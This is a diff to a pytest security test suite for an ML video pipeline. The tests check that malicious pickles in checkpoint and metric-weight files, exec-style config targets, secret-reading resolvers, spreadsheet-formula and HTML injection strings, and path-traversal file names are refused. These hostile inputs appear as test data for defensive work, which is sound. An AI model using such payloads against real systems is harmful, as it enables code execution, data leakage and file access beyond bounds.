@@ -1,5 +1,6 @@
 """What a shared folder could try: code by name, by resolver or by pickle, paths that lead out. Nothing happens."""
 
+import csv
 import json
 import os
 import pickle
@@ -8,11 +9,13 @@ from collections.abc import Callable
 from importlib import import_module
 from pathlib import Path
 
+import numpy as np
 import pytest
 import torch
 import yaml
 
 from src.common.checkpoints import usable
+from src.media.video import write_frames
 from src.prepare import main as prepare
 from src.sample import main as sample
 from src.train import main as train
@@ -20,6 +23,7 @@ from tests.chaos import folders
 from tests.chaos.damage import Payload
 from tests.chaos.processes import MODULES, Command
 from tests.chaos.world import STAGES
+from tests.data.datasets.helpers import random_clips, write_split
 
 SECRET = "what nobody may read"
 TARGETS = {
@@ -27,6 +31,7 @@ TARGETS = {
     "hub": {"_target_": "torch.hub.load", "repo_or_dir": ".", "model": "owned", "source": "local"},
     "partial": {"_target_": "builtins.exec", "_partial_": False, "_args_": ["open('owned', 'w')"]},
 }
+HTML = "<script>open('owned')</script><img src=x onerror=alert(1)>"
 RESOLVED = "${oc.env:SECRET} ${package_path:x} ${now:%Y} ${hydra:runtime.cwd} ${free_gpu:}"
 
 
@@ -133,6 +138,13 @@ PICKLES = {
     "weights.ckpt": [Command("train", ("subject=me", "model=sd15", "model.base=weights.ckpt", "run_dir=new"))],
     "weights.safetensors": [Command("train", ("subject=me", "model=sd15", "model.base=weights.safetensors"))],
     "vae.pt": [Command("train", ("subject=me", "model=mini", "model.vae=vae.pt", "run_dir=new"))],
+    **{
+        f"base{suffix}": [Command("train", ("subject=me", "model=sd15", f"model.base=base{suffix}", "run_dir=new"))]
+        for suffix in (".pt", ".pth", ".bin", ".CKPT")
+    },
+    "control.pth": [
+        Command("train", ("subject=me", "model=mini", "model.controlnet=control.pth", "run_dir=new")),
+    ],
 }
 
 
@@ -146,6 +158,96 @@ def test_a_pickle_under_any_name(shared: Path, call_main, name: str, kind: str) 
     for command in PICKLES[name]:
         refused(call_main, command)
     assert_nothing_happened(shared)
+
+
+# Files of networks that judge, by the metric that asks for each; of two of them nobody publishes a checksum.
+JUDGES = {
+    "inception-2015-12-05.pt": ("fid", "paper"),
+    "pt_inception-2015-12-05-6726825d.pth": ("fid", "disco"),
+    "i3d_torchscript.pt": ("fvd", "paper"),
+    "i3d_pretrained_400.pt": ("fvd", "disco"),
+    "alexnet-owt-7be5be79.pth": ("lpips", "paper"),
+    "vgg16-397923af.pth": ("lpips", "disco"),
+    "resnet-50-kinetics.pth": ("fid-vid", "disco"),
+    "vit_g_hybrid_pt_1200e_ssv2_ft.pth": ("fvd-videomae", "paper"),
+    "clip-vit-base-patch32/pytorch_model.bin": ("clip-t", "paper"),
+}
+
+
+@pytest.mark.parametrize("kind", ["pickle", "torch", "others"])
+@pytest.mark.parametrize("name", JUDGES)
+def test_a_pickle_in_place_of_a_network_that_judges(shared: Path, call_main, name: str, kind: str) -> None:
+    metric, protocol = JUDGES[name]
+    path = shared / "weights" / name
+    path.parent.mkdir(parents=True)
+    for beside in ("config.json", "preprocessor_config.json"):
+        (path.parent / beside).write_text("{}")
+    if kind == "pickle":
+        path.write_bytes(pickle.dumps(Payload()))
+    else:
+        torch.save({"state_dict": Payload() if kind == "torch" else {"weight": torch.zeros(1)}}, path)
+    # Frames enough for windows of 16.
+    for side in ("generated", "real"):
+        write_frames(shared / side, np.zeros((16, 64, 64, 3), np.uint8))
+    arguments = ("generated=generated", "real=real", f"metrics=[{metric}]", f"protocol={protocol}")
+    line = refused(call_main, Command("score", (*arguments, "weights=weights", "download=false", "output=new.json")))
+    assert path.name in line
+    assert_nothing_happened(shared)
+    assert not (shared / "new.json").exists()
+
+
+@pytest.mark.parametrize(
+    "hostile", ['=HYPERLINK("http://x/?"&A1)', "+1", "-1+1", "@SUM(A1)", "\t=1", HTML, "| a | b |\n# c"]
+)
+def test_formulas_and_html_in_a_result_are_text(shared: Path, call_main, hostile: str) -> None:
+    edit(shared / "scores.json", method=hostile, benchmark=hostile, command=hostile, hardware=hostile)
+    edit(shared / "scores.json", **{"missing": {"fid": hostile}, "warnings": [hostile], "sizes": [hostile]})
+    clips = json.loads((shared / "scores.json").read_text())["clips"]
+    edit(shared / "scores.json", clips={hostile: next(iter(clips.values()))})
+    status, stderr = call_main(import_module(MODULES["report"]).main, *STAGES["report"].command.arguments)
+    assert status == 0, stderr
+    report = shared / "report"
+    with open(report / "tables.csv", newline="") as file:
+        cells = [cell for row in csv.reader(file) for cell in row]
+    assert any(cell.lstrip("'").strip() == hostile.strip() for cell in cells), "the name is there, as text"
+    assert [cell for cell in cells if cell.startswith(("=", "+", "@", "\t", "\r")) or cell.startswith("-1+")] == []
+    markdown, page = (report / "tables.md").read_text(), (report / "report.html").read_text()
+    for tag in ("<script>open", "<img src=x"):
+        assert tag not in markdown and tag not in page
+    assert not any(line.startswith("# c") for line in markdown.splitlines())
+    assert_nothing_happened(shared)
+
+
+OUTSIDE = ["/abs", "../../x", "..", "a/../../x", "a\\..\\x", ".ssh"]
+
+
+@pytest.mark.parametrize("name", OUTSIDE)
+def test_names_in_a_list_of_videos_lead_nowhere(shared: Path, call_main, name: str) -> None:
+    columns, values = "video_id,start,end,bbox,fps,width,height,partition", "0,0,0-0-64-64,10,64,64,test"
+    (shared / "list.csv").write_text(f"{columns}\n{name}#1#3,{values}\n")
+    before = everything(shared.parent)
+    command = Command("prepare", ("dataset=ted", "dataset.metadata=list.csv", "pose=file", "pose.path=clip.npz"))
+    assert "list.csv, line 2: " in refused(call_main, command)
+    assert everything(shared.parent) == before
+
+
+@pytest.mark.parametrize("name", OUTSIDE)
+def test_names_in_a_table_of_frames_lead_nowhere(shared: Path, call_main, name: str) -> None:
+    write_split(shared / "tsv", random_clips([2]))
+    for path in (shared / "tsv").glob("*.tsv"):
+        rows = [line.split("\t") for line in path.read_text().splitlines()]
+        path.write_text("".join(f"{name}_{i:06d}.png\t{row[1]}\n" for i, row in enumerate(rows)))
+    for index in (shared / "tsv").glob("*.lineidx*"):
+        index.unlink()
+    before = everything(shared.parent)
+    options = ("dataset=tiktok", "dataset.root=tsv", "pose=file", "pose.path=clip.npz", "data.resolution=64")
+    assert "images.tsv" in refused(call_main, Command("prepare", options))
+    assert everything(shared.parent) == before
+
+
+def everything(folder: Path) -> set[Path]:
+    """All that lies in a folder, and what a name that leads out of it could have made."""
+    return {*folder.rglob("*"), *(path for path in (Path("/abs"), Path("/x")) if path.exists())}
 
 
 @pytest.mark.parametrize("kind", ["pickle", "torch", "half", "empty", "others"])
